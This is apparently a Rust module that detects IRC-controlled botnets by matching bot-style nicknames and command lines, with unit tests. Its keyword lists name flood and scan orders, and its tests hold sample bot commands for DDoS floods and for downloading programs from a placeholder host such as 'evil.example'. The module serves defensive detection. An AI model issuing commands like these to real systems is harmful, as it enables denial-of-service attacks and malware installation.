//! What gives a program away that sits on IRC and does what is said there.
//!
//! Promises: pure functions of a line's words; something is said where a mistake is unlikely: people have odd names, and
//! channels have innocent programs that obey marks as well.

/// Of a name or of what is said so much is looked at.
const LOOKED_AT: usize = 256;

/// What bots call the systems that they run on.
const SYSTEMS: [&[u8]; 26] = [
    b"2k", b"2k3", b"2k8", b"xp", b"winxp", b"vis", b"vista", b"w7", b"w8", b"w81", b"w10", b"w11", b"win", b"win7",
    b"win8", b"win10", b"win11", b"lin", b"linux", b"x64", b"x86", b"x86_64", b"arm", b"arm7", b"mips", b"mpsl",
];

/// Orders to send floods or to look for victims, each with an address.
const AT_ADDRESS: [&[u8]; 18] = [
    b"ddos",
    b"udp",
    b"udpflood",
    b"syn",
    b"synflood",
    b"tcp",
    b"tcpflood",
    b"ack",
    b"ackflood",
    b"icmp",
    b"icmpflood",
    b"http",
    b"httpflood",
    b"flood",
    b"scan",
    b"advscan",
    b"pscan",
    b"portscan",
];

/// Orders to fetch a program, each with where it lies.
const FETCHES: [&[u8]; 7] = [b"download", b"dl", b"update", b"wget", b"get", b"exec", b"execute"];

const PROGRAMS: [&[u8]; 12] =
    [b".exe", b".scr", b".dll", b".bat", b".ps1", b".vbs", b".sh", b".bin", b".elf", b".pl", b".jar", b".apk"];

/// Whether a name is one as bots draw them: a country, a system, a number between brackets, and more drawn behind them
/// (`[NLD|W10|X64]8f2a`, `{USA|XP}483920`).
pub(super) fn is_name(name: &[u8]) -> bool {
    let name = name.strip_prefix(b":").unwrap_or(name);
    let name = name.get(..LOOKED_AT).unwrap_or(name);
    let [b'[' | b'{' | b'(', rest @ ..] = name else { return false };
    let Some(end) = rest.iter().position(|byte| matches!(byte, b']' | b'}' | b')')) else { return false };
    let (inside, behind) = rest.split_at(end);
    let fields: Vec<&[u8]> = inside.split(|byte| *byte == b'|').collect();
    let systems = fields.iter().filter(|field| is_system(field)).count();
    let others = fields.iter().filter(|field| !is_system(field) && (is_country(field) || is_number(field))).count();
    let is_numbered = behind.iter().filter(|byte| byte.is_ascii_digit()).count() >= 3;
    systems > 0 && systems + others >= 2 && (fields.len() >= 3 || is_numbered)
}

fn is_system(field: &[u8]) -> bool {
    SYSTEMS.iter().any(|known| known.eq_ignore_ascii_case(field))
}

fn is_country(field: &[u8]) -> bool {
    matches!(field.len(), 2 | 3) && field.iter().all(u8::is_ascii_uppercase)
}

fn is_number(field: &[u8]) -> bool {
    !field.is_empty() && field.iter().all(u8::is_ascii_digit)
}

/// Whether what is said is an order to bots: `!ddos udp 192.0.2.7 80 60`, `.download http://192.0.2.7/a.exe`.
pub(super) fn is_order(said: &[u8]) -> bool {
    let text = said.get(..LOOKED_AT).unwrap_or(said).to_ascii_lowercase();
    let mut words = text.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
    let Some([b'!' | b'.' | b'@', order @ ..]) = words.next() else { return false };
    if AT_ADDRESS.contains(&order) {
        return words.any(is_address);
    }
    FETCHES.contains(&order) && words.any(is_programs_place)
}

/// Four numbers, or three and what stands for any.
fn is_address(word: &[u8]) -> bool {
    let address = word.split(|byte| matches!(byte, b':' | b'/')).next().unwrap_or_default();
    let is_part = |part: &[u8]| {
        (1..=3).contains(&part.len()) && part.iter().all(u8::is_ascii_digit) || matches!(part, b"x" | b"*")
    };
    address.split(|byte| *byte == b'.').count() == 4 && address.split(|byte| *byte == b'.').all(is_part)
}

fn is_programs_place(word: &[u8]) -> bool {
    let is_page = [&b"http://"[..], b"https://", b"ftp://"].iter().any(|scheme| word.starts_with(scheme));
    is_page && PROGRAMS.iter().any(|ending| word.ends_with(ending))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn people_and_their_programs_are_no_bots() {
        for name in
            ["jan", "jan[away]", "[jan]", "[afk|jan]", "[AFK|Jan]1", "[NL|Linux]jan", "{x}", "[|]", "[", "[NLD|W10"]
        {
            assert!(!is_name(name.as_bytes()), "{name}");
        }
        for said in [
            "!ddos is a crime",
            "udp 192.0.2.7 80",
            ".np",
            "!get some sleep",
            "!download https://example.nl/manual.pdf",
            "!seen jan 1.2.3",
            "http://192.0.2.7/a.exe",
            "!version 1.2.3.4",
            "!",
            "",
        ] {
            assert!(!is_order(said.as_bytes()), "{said}");
        }
    }

    #[test]
    fn bots_and_their_orders_are_told() {
        for name in
            ["[NLD|W10|X64]8f2a", ":[00|USA|XP|SP2|483920]", "{USA|XP}483920", "(DEU|x86_64|linux)a", "[arm7|mips|x]b"]
        {
            assert!(is_name(name.as_bytes()), "{name}");
        }
        for said in [
            "!ddos udp 192.0.2.7 80 60",
            ".syn 192.0.2.7:80 600",
            "@udpflood 192.0.2.7",
            "!scan 192.168.x.x 22",
            ".download http://192.0.2.7/a.exe c:\\x.exe 1",
            "!WGET https://evil.example/x.sh",
        ] {
            assert!(is_order(said.as_bytes()), "{said}");
        }
    }
}
